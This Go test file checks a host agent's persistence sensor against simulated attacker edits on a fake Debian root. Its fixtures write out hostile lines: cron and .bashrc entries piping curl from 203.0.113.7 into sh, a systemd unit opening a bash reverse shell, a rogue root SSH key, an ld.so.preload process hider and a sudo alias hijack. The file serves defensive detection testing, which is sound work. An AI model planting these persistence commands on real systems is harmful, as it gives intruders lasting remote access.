package persist

import (
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/picket-agent/picket/agent/event"
	"github.com/picket-agent/picket/agent/sensor"
)

const (
	keyAlice    = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHXfkTzpWPIbnGTQrmlfTPXOF5W8LqNL6EBsmz60xyIy alice@laptop"
	fpAlice     = "ssh-ed25519 SHA256:2iYUHv+zKxd5I8Gsm4NU5YehCw07VyoHEX4d/kiTcXQ alice@laptop"
	keyAttacker = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7dtAhHndii3zC9z0ZmrGO/FM2XIa9MZ9Jgq/gl2/MXpYAbz0DDBJnjL/A/cTPG44iCgFvYXrDx/86k3AcPmYQ0ORAGfXD5/esamdmnpPhuFvRe7xOKKMJQY2C2J40d2S4IY19ggW0nj/DcPwcLWGlvkzvtjZfzTBujx/CIss78JppgopDHtb71kOO9T91yMbbr12zxMqTwzlpFZ4uHBkkmar/N5dEbeuHoL8l+1D+tLtcdb+DStxM7umGU/zXVKF3b4zlJ/t/QmpnALXpjTkblERkxI7I7nAC7j+z4zIenlfu80JM8ec/B9B+XjS8VFGgWgkz833b2Q2FJek29xNp attacker@kali"
	fpAttacker  = "ssh-rsa SHA256:BY6yPWarLoCMsdiPXHvJvHzaH6HENGehsLW6YN7NJOI attacker@kali"
)

type fakeRoot struct {
	t    *testing.T
	root string
}

func (r *fakeRoot) path(p string) string { return filepath.Join(r.root, p) }

func (r *fakeRoot) write(p, s string) {
	r.t.Helper()
	if err := os.MkdirAll(filepath.Dir(r.path(p)), 0o755); err != nil {
		r.t.Fatal(err)
	}
	if err := os.WriteFile(r.path(p), []byte(s), 0o644); err != nil {
		r.t.Fatal(err)
	}
}

func (r *fakeRoot) appendLine(p, line string) {
	r.t.Helper()
	if err := os.MkdirAll(filepath.Dir(r.path(p)), 0o755); err != nil {
		r.t.Fatal(err)
	}
	f, err := os.OpenFile(r.path(p), os.O_APPEND|os.O_WRONLY|os.O_CREATE, 0o644)
	if err != nil {
		r.t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(line + "\n"); err != nil {
		r.t.Fatal(err)
	}
}

func (r *fakeRoot) symlink(target, p string) {
	r.t.Helper()
	if err := os.MkdirAll(filepath.Dir(r.path(p)), 0o755); err != nil {
		r.t.Fatal(err)
	}
	if err := os.Symlink(target, r.path(p)); err != nil {
		r.t.Fatal(err)
	}
}

// newFakeRoot lays out a small Debian-like system: merged /usr, a vendor
// unit enabled by a link, cron, profiles, two homes with keys.
func newFakeRoot(t *testing.T) *fakeRoot {
	r := &fakeRoot{t: t, root: t.TempDir()}
	r.write("/etc/passwd", `root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
alice:x:1000:1000:Alice:/home/alice:/bin/bash
`)
	r.write("/etc/group", "root:x:0:\nshadow:x:42:\nalice:x:1000:\n")
	crontab, err := os.ReadFile("testdata/crontab")
	if err != nil {
		t.Fatal(err)
	}
	r.write("/etc/crontab", string(crontab))
	r.write("/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n")
	r.write("/etc/cron.daily/logrotate", "#!/bin/sh\n# skip in favour of systemd timer\nif [ -d /run/systemd/system ]; then\n    exit 0\nfi\n/usr/sbin/logrotate /etc/logrotate.conf\n")
	if err := os.MkdirAll(r.path("/var/spool/cron/crontabs"), 0o730); err != nil {
		t.Fatal(err)
	}
	r.write("/usr/lib/systemd/system/ssh.service", "[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n")
	r.symlink("usr/lib", "/lib")
	r.symlink("usr/bin", "/bin")
	r.symlink("/lib/systemd/system/ssh.service", "/etc/systemd/system/multi-user.target.wants/ssh.service")
	r.symlink("/dev/null", "/etc/systemd/system/masked.service")
	r.write("/etc/init.d/cron", "#!/bin/sh\n### BEGIN INIT INFO\nDAEMON=/usr/sbin/cron\nstart-stop-daemon --start --exec $DAEMON\n")
	r.write("/etc/profile", "if [ \"$PS1\" ]; then\n  PS1='\\h:\\w\\$ '\nfi\n")
	r.write("/etc/profile.d/01-locale-fix.sh", "# make sure the locale variables are set to valid values.\neval $(/usr/bin/locale-check C.UTF-8)\n")
	r.write("/etc/bash.bashrc", "[ -z \"$PS1\" ] && return\nshopt -s checkwinsize\n")
	r.write("/root/.bashrc", "export LS_OPTIONS='--color=auto'\n")
	r.write("/root/.ssh/authorized_keys", keyAlice+"\n")
	r.write("/home/alice/.profile", "if [ -n \"$BASH_VERSION\" ]; then\n    . \"$HOME/.bashrc\"\nfi\n")
	if err := os.MkdirAll(r.path("/var/www/html"), 0o755); err != nil {
		t.Fatal(err)
	}
	r.write("/usr/bin/passwd", "ELF")
	if err := os.Chmod(r.path("/usr/bin/passwd"), 0o755|fs.ModeSetuid); err != nil {
		t.Fatal(err)
	}
	r.write("/usr/bin/ls", "ELF")
	r.write("/etc/hostname", "box\n")
	return r
}

type running struct {
	t   *testing.T
	s   *Sensor
	out chan sensor.Item
}

func startSensor(t *testing.T, s *Sensor) *running {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	out := make(chan sensor.Item, 64)
	done := make(chan error, 1)
	go func() { done <- s.Run(ctx, out) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != context.Canceled {
			t.Errorf("Run returned %v", err)
		}
	})
	deadline := time.Now().Add(10 * time.Second)
	for {
		if _, d := s.Live(); d != "starting" {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("sensor did not start")
		}
		time.Sleep(5 * time.Millisecond)
	}
	return &running{t: t, s: s, out: out}
}

// render spells an event compactly but completely (all but the time).
func render(e event.Event) string {
	c := e.Change
	var attrs []string
	for k, v := range c.Attrs {
		attrs = append(attrs, k+"="+v)
	}
	sort.Strings(attrs)
	s := strings.Join([]string{c.What, c.Op, c.Path, "name=" + c.Name, "user=" + e.User, "before=" + c.Before,
		"after=" + c.After, "{" + strings.Join(attrs, " ") + "}"}, " | ")
	if e.Kind != event.PersistChanged || e.Source != "file:"+c.Path || (e.Line != c.After && e.Line != c.Before) || e.Time.IsZero() {
		s += " | BAD ENVELOPE " + string(e.Kind) + " " + e.Source + " " + e.Line
	}
	return s
}

func (r *running) expect(want ...string) []event.Event {
	r.t.Helper()
	var got []string
	var evs []event.Event
	timeout := time.After(5 * time.Second)
	for len(got) < len(want) {
		select {
		case it := <-r.out:
			got = append(got, render(*it.Event))
			evs = append(evs, *it.Event)
		case <-timeout:
			r.t.Fatalf("got %d events, want %d:\n  %s", len(got), len(want), strings.Join(got, "\n  "))
		}
	}
	r.quiet(150 * time.Millisecond)
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		r.t.Errorf("events:\n got %s\nwant %s", strings.Join(got, "\n     "), strings.Join(want, "\n     "))
	}
	return evs
}

func (r *running) quiet(d time.Duration) {
	r.t.Helper()
	select {
	case it := <-r.out:
		r.t.Fatalf("unexpected event %s", render(*it.Event))
	case <-time.After(d):
	}
}

func testSensor(root string) *Sensor {
	return &Sensor{Options: Options{Root: root, Interval: time.Hour, Debounce: 20 * time.Millisecond, SetuidInterval: time.Hour}}
}

func TestSensorAttackerEdits(t *testing.T) {
	fr := newFakeRoot(t)
	r := startSensor(t, testSensor(fr.root))
	r.quiet(200 * time.Millisecond) // the start is the baseline

	// Routine edits: comments, blank lines, re-indenting, history files,
	// a vendor unit upgraded in place, another file in /etc.
	fr.appendLine("/etc/crontab", "# a comment\n")
	data, _ := os.ReadFile(fr.path("/etc/crontab"))
	fr.write("/etc/crontab", strings.Replace(string(data), "@reboot root /opt/agent/start", "@reboot   root\t/opt/agent/start", 1))
	fr.appendLine("/etc/profile", "   ")
	fr.appendLine("/etc/profile.d/01-locale-fix.sh", "  # another comment")
	fr.write("/etc/hostname", "box2\n")
	fr.appendLine("/home/alice/.bash_history", "ls -la")
	fr.write("/usr/lib/systemd/system/ssh.service", "[Unit]\nDescription=OpenSSH server\n[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D -o x $SSHD_OPTS\n")
	fr.appendLine("/etc/crontab", "MAILTO=root")
	r.quiet(300 * time.Millisecond)

	// echo '* * * * * root curl ... | sh' >> /etc/crontab
	fr.appendLine("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | sh")
	r.expect("cron_line | added | /etc/crontab | name=root | user=root | before= | after=* * * * * root curl -s http://203.0.113.7/x | sh | {command=curl -s http://203.0.113.7/x | sh line=19 schedule=* * * * *}")

	fr.write("/etc/cron.d/.hidden", "SHELL=/tmp/.sh\n@reboot root /tmp/.x\n")
	r.expect("cron_line | added | /etc/cron.d/.hidden | name= | user= | before= | after=SHELL=/tmp/.sh | {env=SHELL line=1}",
		"cron_line | added | /etc/cron.d/.hidden | name=root | user=root | before= | after=@reboot root /tmp/.x | {command=/tmp/.x line=2 schedule=@reboot}")

	// crontab -u www-data (the spool file is named after the user).
	fr.write("/var/spool/cron/crontabs/www-data", "# DO NOT EDIT THIS FILE\n*/10 * * * * /var/www/html/.cache/upd\n")
	r.expect("cron_line | added | /var/spool/cron/crontabs/www-data | name=www-data | user=www-data | before= | after=*/10 * * * * /var/www/html/.cache/upd | {command=/var/www/html/.cache/upd line=2 schedule=*/10 * * * *}")

	// A service dropped and enabled.
	fr.write("/etc/systemd/system/dbus-org.update.service", "[Unit]\nDescription=Update\n[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\nRestart=always\n[Install]\nWantedBy=multi-user.target\n")
	r.expect("systemd_unit | added | /etc/systemd/system/dbus-org.update.service | name=dbus-org.update.service | user= | before= | after=ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' | {line=4}")
	fr.symlink("/etc/systemd/system/dbus-org.update.service", "/etc/systemd/system/multi-user.target.wants/dbus-org.update.service")
	r.expect("systemd_unit | added | /etc/systemd/system/multi-user.target.wants/dbus-org.update.service | name=dbus-org.update.service | user= | before= | after=ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' | {line=4 target=/etc/systemd/system/dbus-org.update.service}")

	// A user timer in a directory that did not exist.
	fr.write("/home/alice/.config/systemd/user/sync.timer", "[Timer]\nOnBootSec=1min\nUnit=sync.service\n")
	r.expect("systemd_unit | added | /home/alice/.config/systemd/user/sync.timer | name=sync.timer | user=alice | before= | after=OnBootSec=1min\nUnit=sync.service | {line=2 user=alice}")

	// A new vendor unit is news; the upgrade above was not.
	fr.write("/lib/systemd/system/kworker.service", "[Service]\nExecStart=/usr/lib/kworker\n")
	r.expect("systemd_unit | added | /usr/lib/systemd/system/kworker.service | name=kworker.service | user= | before= | after=ExecStart=/usr/lib/kworker | {line=2 vendor=true}")

	fr.write("/etc/rc.local", "#!/bin/sh -e\nnohup /usr/local/bin/.d >/dev/null 2>&1 &\nexit 0\n")
	r.expect("rc_local | added | /etc/rc.local | name= | user= | before= | after=nohup /usr/local/bin/.d >/dev/null 2>&1 &\nexit 0 | {lines=2,3}")

	fr.write("/etc/init.d/cron", "#!/bin/sh\n### BEGIN INIT INFO\nDAEMON=/usr/sbin/cron\n/tmp/.x &\nstart-stop-daemon --start --exec $DAEMON\n")
	r.expect("init_script | modified | /etc/init.d/cron | name= | user= | before= | after=/tmp/.x & | {lines=4}")

	fr.appendLine("/home/alice/.profile", "alias sudo='/tmp/.s'")
	r.expect("shell_profile | modified | /home/alice/.profile | name=alice | user=alice | before= | after=alias sudo='/tmp/.s' | {lines=4}")
	fr.write("/var/www/.bashrc", "curl -s http://203.0.113.7/k | sh\n")
	r.expect("shell_profile | added | /var/www/.bashrc | name=www-data | user=www-data | before= | after=curl -s http://203.0.113.7/k | sh | {lines=1}")

	// mkdir ~/.ssh; echo key >> ~/.ssh/authorized_keys
	fr.appendLine("/home/alice/.ssh/authorized_keys", keyAlice)
	r.expect("authorized_key | added | /home/alice/.ssh/authorized_keys | name=alice | user=alice | before= | after=" + fpAlice +
		" | {fingerprint=SHA256:2iYUHv+zKxd5I8Gsm4NU5YehCw07VyoHEX4d/kiTcXQ line=1 type=ssh-ed25519}")
	fr.appendLine("/root/.ssh/authorized_keys", `command="/bin/sh -i" `+keyAttacker)
	r.expect("authorized_key | added | /root/.ssh/authorized_keys | name=root | user=root | before= | after=" + fpAttacker +
		` | {command=/bin/sh -i fingerprint=SHA256:BY6yPWarLoCMsdiPXHvJvHzaH6HENGehsLW6YN7NJOI line=2 options=command="/bin/sh -i" type=ssh-rsa}`)

	fr.appendLine("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so")
	r.expect("ld_preload | added | /etc/ld.so.preload | name= | user= | before= | after=/usr/local/lib/libprocesshider.so | {line=1}")

	// Removals are reported as such.
	fr.write("/root/.ssh/authorized_keys", keyAlice+"\n")
	r.expect("authorized_key | removed | /root/.ssh/authorized_keys | name=root | user=root | before=" + fpAttacker +
		` | after= | {command=/bin/sh -i fingerprint=SHA256:BY6yPWarLoCMsdiPXHvJvHzaH6HENGehsLW6YN7NJOI line=2 options=command="/bin/sh -i" type=ssh-rsa}`)
	if err := os.Remove(fr.path("/etc/rc.local")); err != nil {
		t.Fatal(err)
	}
	r.expect("rc_local | removed | /etc/rc.local | name= | user= | before=nohup /usr/local/bin/.d >/dev/null 2>&1 &\nexit 0 | after= | {}")

	if degraded, detail := r.s.Live(); degraded {
		t.Errorf("degraded: %s", detail)
	}
}
